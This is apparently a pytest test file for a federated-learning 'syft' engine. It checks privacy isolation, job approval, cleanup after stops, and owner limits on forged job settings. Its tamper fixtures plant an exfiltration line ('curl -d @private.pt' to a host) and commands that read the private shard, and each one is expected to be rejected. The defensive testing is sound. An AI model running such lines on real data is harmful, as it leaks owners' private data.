"""The syft engine: owners' jobs train like the in-process pool, the aggregator never reads private data,
an owner runs nothing but the exact training script it approved, warm workers train only, at most
SYFT_CONCURRENT_JOBS jobs run at once, and nothing is left running after a run or a Stop."""

import gc
import itertools
import json
import os
import re
import sys
import threading
import time
from dataclasses import replace
from pathlib import Path

import psutil
import pytest
import torch

from fed_core.config import TrainConfig
from fed_core.engines import EngineError, engine_for, syft_warm_pool
from fed_core.engines.owner_limits import OwnerLimits
from fed_core.engines.syft_engine import DataOwner, JobRefused, SyftEngine, SyftPool, job_script
from fed_core.engines.syft_warm_pool import WarmPool, WarmWorker
from fed_core.engines.syft_warm_worker import TrainingRequest
from fed_core.engines.worker_job import LocalTask, encode_vector, load_update, save_shard, train_local
from fed_core.job import STOPPED, JobSlots, TrainingJob
from fed_core.models import build_model
from fed_core.vocabulary import TrainingStopped
from ui import session

SMALL = dict(rounds=2, train_size=4000, contribution_subset=200)
ONE_OWNER = TrainConfig(workers=1, rounds=1, train_size=1000, contribution_subset=100, engine="syft")
ONE_OWNER_BY_HAND = TrainConfig(**{**ONE_OWNER.to_dict(), "manual_approval": True})

# Python's audit hooks see every open() in this process (syft's, torch's, ours) and cannot be removed,
# so one hook records into whichever list a test hands it.
_opened: list[tuple[str, str, str]] | None = None


def _record_open(event: str, args: tuple) -> None:
    if event == "open" and _opened is not None and isinstance(args[0], (str, bytes, os.PathLike)):
        path = os.path.abspath(os.fsdecode(args[0]))
        _opened.append((threading.current_thread().name, path, str(args[1])))


sys.addaudithook(_record_open)


def is_private(path: str) -> bool:
    """An owner's private copy in its datasite, or the staging file it was published from."""
    return "/private/" in path or path.endswith("/private.pt")


def wait_for(condition, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)


def syft_processes() -> list[psutil.Process]:
    """This process's warm workers and job processes (a job is bash exec-ing the handoff)."""
    found = []
    for child in psutil.Process().children(recursive=True):
        try:
            if any(name in " ".join(child.cmdline()) for name in ("syft_warm_worker", "syft_handoff")):
                found.append(child)
        except psutil.Error:  # ended meanwhile
            pass
    return found


def test_two_owners_train_like_inprocess_and_the_aggregator_never_opens_private_files(mnist):
    global _opened
    engine = engine_for(TrainConfig(workers=2, engine="syft", **SMALL))
    _opened = []
    try:
        run = engine.run(mnist)
    finally:
        opened, _opened = _opened, None

    expected = engine_for(TrainConfig(workers=2, **SMALL)).run(mnist)
    for syft_round, inprocess_round in zip(run.history, expected.history, strict=True):  # round by round
        assert syft_round.test_accuracy == pytest.approx(inprocess_round.test_accuracy, abs=0.001)
        assert [row["loss_after"] for row in syft_round.workers] == pytest.approx(
            [row["loss_after"] for row in inprocess_round.workers], rel=1e-4
        )
    for syft_param, inprocess_param in zip(run.model.parameters(), expected.model.parameters(), strict=True):
        torch.testing.assert_close(syft_param, inprocess_param, rtol=1e-4, atol=1e-5)
    assert run.history[-1].test_accuracy > 0.8
    # The jobs trained on the private shards: the mock holds 16 images, each shard 2000.
    assert [row["examples"] for row in run.history[-1].workers] == [2000, 2000]

    aggregator = threading.current_thread().name
    # In this process only the owners' threads touch private files (publishing them); their warm workers,
    # separate processes, read them to train.
    private_readers = {thread for thread, path, _ in opened if is_private(path)}
    assert private_readers == {"datasite-owner0", "datasite-owner1"}  # the check sees owners touch them
    assert aggregator not in private_readers
    assert any(path.endswith("outputs/update.pt") for thread, path, _ in opened if thread == aggregator)
    aggregator_files = [path for _, path, _ in opened if "/aggregator-" in path]
    assert aggregator_files and not any(is_private(path) for path in aggregator_files)

    for site in engine.datasites():
        assert site.private_images == 2000 and site.private_bytes > 2000 * 28 * 28
        assert tuple(site.mock_images.shape) == (16, 28, 28)
        assert [(j.round, j.status, j.approval) for j in site.jobs] == [(1, "done", "auto"), (2, "done", "auto")]
        assert all(j.seconds > 0 for j in site.jobs)
    [root] = {re.search(r".*/fed-syft-[^/]+", path).group(0) for _, path, _ in opened if "/fed-syft-" in path}
    assert not Path(root).exists(), "the datasites' folders are deleted after the run"
    assert syft_processes() == [], "no warm worker or job process outlives the run"


def run_in_thread(engine: SyftEngine, data, stop: threading.Event) -> tuple[threading.Thread, dict]:
    outcome: dict = {}

    def work() -> None:
        try:
            outcome["run"] = engine.run(data, should_stop=stop.is_set)
        except BaseException as exc:
            outcome["error"] = exc

    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    return thread, outcome


def test_manual_approval_holds_the_round_until_the_owner_approves(mnist):
    engine = engine_for(ONE_OWNER_BY_HAND)
    stop = threading.Event()
    thread, outcome = run_in_thread(engine, mnist, stop)
    try:
        wait_for(lambda: engine.datasites() and engine.datasites()[0].awaiting_approval)
        time.sleep(1.5)
        assert thread.is_alive() and not outcome, "the round went on without approval"
        [job_name] = engine.datasites()[0].awaiting_approval
        engine.approve(0, job_name)
        thread.join(120)
    finally:
        stop.set()
        thread.join(60)
    assert "error" not in outcome, outcome.get("error")
    assert len(outcome["run"].history) == 1
    [job] = engine.datasites()[0].jobs
    assert job.status == "done" and job.approval == "manual" and job.waited >= 1.5


@pytest.mark.parametrize("stop_when", ["awaiting approval", "running"])
def test_stop_ends_the_run_its_owners_warm_workers_and_syfts_threads(mnist, stop_when):
    before = set(threading.enumerate())
    engine = engine_for(ONE_OWNER_BY_HAND)
    stop = threading.Event()
    thread, outcome = run_in_thread(engine, mnist, stop)
    wait_for(lambda: engine.datasites() and engine.datasites()[0].awaiting_approval)
    if stop_when == "running":
        [job_name] = engine.datasites()[0].awaiting_approval
        engine.approve(0, job_name)
        wait_for(lambda: engine.datasites()[0].jobs[0].status == "running")
    stop.set()
    thread.join(120)
    assert not thread.is_alive()
    assert isinstance(outcome.pop("error"), TrainingStopped)

    def leftover_threads():
        gc.collect()  # syft's idle thread pools end once its released clients are collected
        return [t.name for t in set(threading.enumerate()) - before]

    wait_for(lambda: not leftover_threads(), timeout=10)
    assert syft_processes() == [], "no warm worker or job process outlives a stopped run"


def test_the_command_line_ends_a_run_whose_owner_never_answers_with_one_line(capsys, monkeypatch):
    from fed_core.cli import main

    monkeypatch.setenv("FEDMNIST_APPROVAL_SECONDS", "1")
    monkeypatch.setattr(DataOwner, "_review", lambda owner, job: "waiting")  # an owner who never decides
    code = main(["train", "--engine", "syft", "--workers", "1", "--rounds", "1", "--train-size", "1000"])
    err = capsys.readouterr().err
    assert code != 0 and "Traceback" not in err
    assert (
        "error: The run ended: owner0@example.org did not approve worker 0's job round-001-worker-0 within 1 s. "
        "No round had finished, so there is nothing to save." in err
    )


def test_train_page_says_when_nobody_approved_in_time(mnist, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("FEDMNIST_APPROVAL_SECONDS", "1")
    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "app.py"), default_timeout=60)
    at.switch_page("pages/1_Train.py").run()
    next(s for s in at.selectbox if s.label == "Where workers train").set_value("syft").run()
    next(t for t in at.toggle if t.label == "Approve jobs manually").set_value(True)
    next(w for w in at.number_input if w.label == "Workers").set_value(1)
    next(w for w in at.number_input if w.label == "Rounds").set_value(1)
    at.run()
    assert any("a run whose job nobody approves within 1.0 s" in c.value for c in at.caption)
    next(b for b in at.button if b.label == "Start").click().run()
    job = at.session_state[session.JOB]
    try:
        job.join(120)
        at.run()
        assert not at.exception
        assert job.snapshot().status == "stopped"
        [warning] = [w.value for w in at.warning if "did not approve" in w.value]
        assert warning.startswith("The run ended: owner0@example.org did not approve worker 0's job round-001-worker-0")
        assert "It ran 0 round(s)." in warning
        assert not [b for b in at.button if b.label.startswith("Approve ")]
    finally:
        job.stop()
        job.join(60)


def test_train_page_shows_the_datasites_and_approves_jobs_with_a_button(mnist):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "app.py"), default_timeout=60)
    at.switch_page("pages/1_Train.py").run()
    next(s for s in at.selectbox if s.label == "Where workers train").set_value("syft").run()
    next(t for t in at.toggle if t.label == "Approve jobs manually").set_value(True)
    next(w for w in at.number_input if w.label == "Workers").set_value(2)
    next(w for w in at.number_input if w.label == "Rounds").set_value(1)
    next(b for b in at.button if b.label == "Start").click().run()
    job = at.session_state[session.JOB]
    try:
        assert (job.config.engine, job.config.workers) == ("syft", 2)

        def approve_buttons():
            at.run()  # run_every never fires in AppTest: poll by hand
            return [b.label for b in at.button if b.label.startswith("Approve ")]

        wait_for(lambda: len(approve_buttons()) == 2)
        assert any("wait for their owner's approval" in w.value for w in at.warning)
        assert any(e.label == "Datasites: 2 data owners" for e in at.expander)
        for label in ["Approve round-001-worker-0", "Approve round-001-worker-1"]:
            next(b for b in at.button if b.label == label).click().run()
        job.join(120)
        at.run()
        assert not at.exception
        assert job.snapshot().status == "done"
        tables = [d.value for d in at.dataframe if "approval" in d.value.columns]
        assert [list(t["approval"]) for t in tables] == [["manual"], ["manual"]]
    finally:
        job.stop()
        job.join(60)


def test_a_job_nobody_approves_ends_the_run_keeping_its_model_and_its_slot_frees(mnist, monkeypatch):
    """Issue 16, item 3: round 1 is approved, round 2 never is. The run ends after the approval time-out (5 s) as
    stopped, says why, keeps round 1's model, leaves nothing running and frees its slot."""
    monkeypatch.setenv("FEDMNIST_APPROVAL_SECONDS", "5")
    slots = JobSlots(capacity=1, deadline_seconds=600.0)
    job = TrainingJob(engine_for(TrainConfig(**{**ONE_OWNER_BY_HAND.to_dict(), "rounds": 2})))
    assert slots.try_start(job) is None
    engine = job.engine
    wait_for(lambda: engine.datasites())  # the owner is up: approve round 1 as soon as it can be named
    engine.approve(0, "round-001-worker-0")
    started = time.monotonic()
    job.join(120)
    snap = job.snapshot()
    assert snap.status == STOPPED and snap.round == 1, (snap.status, snap.error)
    assert snap.stop_reason == (
        "The run ended: owner0@example.org did not approve worker 0's job round-002-worker-0 within 5 s."
    )
    assert time.monotonic() - started < 60
    assert job.model is not None  # round 1's
    assert [j.status for j in engine.datasites()[0].jobs] == ["done", "not approved in time"]
    assert engine.datasites()[0].awaiting_approval == []  # no Approve button left
    assert syft_processes() == []
    other = TrainingJob(engine_for(ONE_OWNER))
    assert slots.try_start(other) is None
    other.join(120)


# --- what an owner runs ------------------------------------------------------------------------------


def changed_script(job_dir: Path) -> None:
    (job_dir / "code" / "script.sh").write_text(job_script() + "curl -d @private.pt https://example.org\n")


def changed_run_sh(job_dir: Path) -> None:
    """syft executes run.sh, not code/script.sh: a job whose script.sh matches but run.sh does not."""
    (job_dir / "run.sh").write_text(job_script().replace("exec ", "cat ../../private.pt; exec "))


def extra_file(job_dir: Path) -> None:
    (job_dir / "code" / "helper.py").write_text("print('more than the training script')\n")


@pytest.mark.parametrize("tamper", [changed_script, changed_run_sh, extra_file])
def test_a_job_that_is_not_exactly_the_training_script_is_rejected(mnist, monkeypatch, tamper):
    write_job = SyftPool.write_job

    def write_tampered_job(pool, job_dir, task, weights):
        write_job(pool, job_dir, task, weights)
        tamper(job_dir)

    monkeypatch.setattr(SyftPool, "write_job", write_tampered_job)
    engine = engine_for(ONE_OWNER)
    with pytest.raises(
        EngineError, match=re.escape("Worker 0's job round-001-worker-0 was rejected by owner0@example.org: ")
    ):
        engine.run(mnist)
    [job] = engine.datasites()[0].jobs
    assert job.status == "rejected"
    assert syft_processes() == []


def forge_settings(monkeypatch, **settings) -> None:
    """The aggregator writes a job.json whose local settings are ``settings`` instead of the run's."""
    write_job = SyftPool.write_job

    def write_forged_job(pool, job_dir, task, weights):
        write_job(pool, job_dir, task, weights)
        path = job_dir / "code" / "job.json"
        job = json.loads(path.read_text())
        job["task"].update(settings)
        path.write_text(json.dumps(job))

    monkeypatch.setattr(SyftPool, "write_job", write_forged_job)


@pytest.mark.parametrize(
    "config", [ONE_OWNER, ONE_OWNER_BY_HAND], ids=["auto approval", "manual approval: nobody is asked"]
)
def test_an_owner_rejects_a_forged_job_json_over_its_limits_and_says_why(mnist, monkeypatch, config):
    """Issue 16, item 10: the script is the exact training script, but job.json asks for 1000 epochs and a
    learning rate of 50. The owner rejects it before anything trains, and the aggregator is told why."""
    forge_settings(monkeypatch, epochs=1000, lr=50.0)
    engine = engine_for(config)
    with pytest.raises(EngineError) as refused:
        engine.run(mnist)
    assert str(refused.value) == (
        "Worker 0's job round-001-worker-0 was rejected by owner0@example.org: Its local settings are over "
        "owner0@example.org's limits: local epochs 1000 is not between 1 and 20; learning rate 50 is not in (0, 10]."
    )
    [job] = engine.datasites()[0].jobs
    assert (job.status, job.started) == ("rejected", None)  # never given a warm worker
    assert syft_processes() == []


def test_an_owner_rejects_a_job_that_would_take_longer_than_it_allows(mnist, monkeypatch):
    forge_settings(monkeypatch, epochs=20, batch_size=1)  # within the epoch and batch limits, but slow
    engine = engine_for(ONE_OWNER)
    engine.owner_limits = OwnerLimits(max_seconds=5)  # the estimate: about 8 s
    with pytest.raises(EngineError, match=r"training would take about \d+ s, more than the 5 s this owner allows"):
        engine.run(mnist)


def test_owner_limits_check_types_and_each_setting():
    task = LocalTask.for_round(TrainConfig(), worker=0, round_idx=1)
    limits = OwnerLimits(max_epochs=5, min_batch_size=16, max_batch_size=256, max_lr=0.5, max_seconds=3600)
    assert limits.problems(task, 12_000) == []

    def forged(**settings):
        return LocalTask.from_dict({**task.to_dict(), **settings})

    assert limits.problems(forged(epochs=6), 100) == ["local epochs 6 is not between 1 and 5"]
    assert limits.problems(forged(batch_size=8), 100) == ["batch size 8 is not between 16 and 256"]
    assert limits.problems(forged(lr=0.6), 100) == ["learning rate 0.6 is not in (0, 0.5]"]
    assert limits.problems(forged(lr=-1.0), 100) == ["learning rate -1 is not in (0, 0.5]"]
    assert limits.problems(forged(clip_norm=0.0), 100) == ["gradient clip norm 0 is not positive"]
    assert limits.problems(forged(epochs=2.5), 100) == ["epochs must be a whole number, got 2.5"]
    assert limits.problems(forged(epochs=True), 100) == ["epochs must be a whole number, got True"]
    assert limits.problems(forged(lr="0.1"), 100) == ["lr must be a finite number, got '0.1'"]
    assert limits.problems(forged(lr=float("nan")), 100) == ["lr must be a finite number, got nan"]
    assert limits.problems(forged(model="evil"), 100) == ["unknown model 'evil'"]
    assert OwnerLimits(max_seconds=1).problems(forged(epochs=5), 60_000) == [
        "training would take about 10 s, more than the 1 s this owner allows a job"
    ]


def test_an_owner_that_joined_under_dp_rejects_a_job_that_drops_the_noise(mnist, monkeypatch):
    """The run promised example-level DP; the aggregator forges job.json with no noise, which would spend the
    owner's privacy unprotected. The owner holds the job to the run's DP and rejects it before anything trains."""
    forge_settings(monkeypatch, dp_noise=0.0)
    engine = engine_for(replace(ONE_OWNER, dp="example", dp_clip=1.0, dp_noise=1.0))
    with pytest.raises(EngineError, match=re.escape("noise multiplier at least 1 and clip at most 1 is required")):
        engine.run(mnist)
    [job] = engine.datasites()[0].jobs
    assert (job.status, job.started) == ("rejected", None)


def test_owner_dp_requirement_checks_noise_and_clip():
    task = LocalTask.for_round(TrainConfig(dp="example", dp_clip=1.0, dp_noise=1.0), worker=0, round_idx=1)
    limits = OwnerLimits.for_run(TrainConfig(dp="example", dp_clip=1.0, dp_noise=1.0))
    assert limits.problems(task, 1000) == []

    def forged(**settings):
        return LocalTask.from_dict({**task.to_dict(), **settings})

    assert len(limits.problems(forged(dp_noise=0.5), 1000)) == 1
    assert len(limits.problems(forged(dp_clip=5.0), 1000)) == 1
    assert len(limits.problems(forged(dp_clip=0.0, dp_noise=0.0), 1000)) == 1
    assert limits.problems(forged(dp_noise=2.0, dp_clip=0.5), 1000) == []  # more privacy is always accepted
    assert OwnerLimits.for_run(TrainConfig()).problems(forged(dp_clip=0.0, dp_noise=0.0), 1000) == []


def test_a_job_changed_after_approval_is_not_trained(mnist, monkeypatch):
    run_jobs = DataOwner._run_jobs

    def change_then_run(owner, jobs):  # someone edits the approved job before syft runs it
        for job in jobs:
            settings = json.loads((job.code_dir / "job.json").read_text())
            settings["task"]["epochs"] = 20
            (job.code_dir / "job.json").write_text(json.dumps(settings))
        run_jobs(owner, jobs)

    monkeypatch.setattr(DataOwner, "_run_jobs", change_then_run)
    engine = engine_for(ONE_OWNER)
    with pytest.raises(
        EngineError,
        match=r"Worker 0's job round-001-worker-0 failed on owner0@example\.org\..* changed after it was approved",
    ):
        engine.run(mnist)
    assert [job.status for job in engine.datasites()[0].jobs] == ["failed"]


def test_an_owner_trains_only_a_job_it_approved(tmp_path):
    owner = DataOwner(0, client=None, manual_approval=False, pool=WarmPool(1, "crypto_cnn"))  # starts nothing
    with pytest.raises(JobRefused, match=re.escape("is not a job owner0@example.org approved")):
        owner.training_request({"code_dir": str(tmp_path)})
    with pytest.raises(JobRefused, match="its code folder and nothing else"):
        owner.training_request({"code_dir": str(tmp_path), "script": "python -c 'import os'"})


# --- warm workers --------------------------------------------------------------------------------------


def test_a_warm_worker_trains_like_train_local_and_refuses_anything_else(tmp_path):
    images, labels = torch.randint(0, 256, (64, 28, 28), dtype=torch.uint8), torch.randint(0, 10, (64,))
    save_shard(tmp_path / "private.pt", images, labels)
    vector = torch.cat([p.detach().flatten() for p in build_model("crypto_cnn").parameters()])
    (tmp_path / "global_model.b64").write_text(encode_vector(vector))
    task = LocalTask.for_round(TrainConfig(batch_size=16), worker=3, round_idx=2)
    request = TrainingRequest(task, 1, tmp_path / "private.pt", tmp_path / "global_model.b64", tmp_path / "update.pt")

    worker = WarmWorker("crypto_cnn")
    try:
        code = {"code": "import os; os.system('cat private.pt')"}
        assert worker.ask(code)["error"].startswith("refused: a warm worker only trains")
        assert "refused" in worker.ask({**request.to_message(), "module": "evil"})["error"]
        assert "refused" in worker.ask({**request.to_message(), "task": {**task.to_dict(), "hook": "x"}})["error"]
        assert "refused" in worker.ask({**request.to_message(), "shard": "private.pt"})["error"]
        worker.process.stdin.write(b"not json\n")
        worker.process.stdin.flush()
        assert worker.ask(request.to_message()).get("error", "").startswith("refused: not JSON")
        assert worker.train(request) == worker.ask(request.to_message())["summary"]  # still serving, deterministic
    finally:
        worker.close()
    assert not worker.alive

    update, expected = load_update(tmp_path / "update.pt"), train_local(task, vector, images, labels)
    assert (update.worker, update.num_examples) == (3, 64)
    torch.testing.assert_close(update.delta, expected.delta, rtol=1e-5, atol=1e-7)


def test_at_most_syft_concurrent_jobs_run_at_once(mnist, monkeypatch):
    monkeypatch.setattr(syft_warm_pool, "SYFT_CONCURRENT_JOBS", 1)
    seen: list[tuple[int, int]] = []  # (warm workers, job processes) at each look
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            names = [" ".join(p.cmdline()) for p in syft_processes() if p.is_running()]
            seen.append((sum("syft_warm_worker" in n for n in names), sum("syft_handoff" in n for n in names)))
            time.sleep(0.02)

    watcher = threading.Thread(target=watch)
    watcher.start()
    engine = engine_for(TrainConfig(**{**ONE_OWNER.to_dict(), "workers": 3, "train_size": 3000}))
    try:
        run = engine.run(mnist)
    finally:
        done.set()
        watcher.join()

    assert [row["examples"] for row in run.history[0].workers] == [1000, 1000, 1000]
    assert max(workers for workers, _ in seen) == 1 and max(jobs for _, jobs in seen) == 1
    spans = sorted((j.started, j.started + j.seconds) for site in engine.datasites() for j in site.jobs)
    assert len(spans) == 3 and all(end <= next_start for (_, end), (next_start, _) in itertools.pairwise(spans))
    assert syft_processes() == []
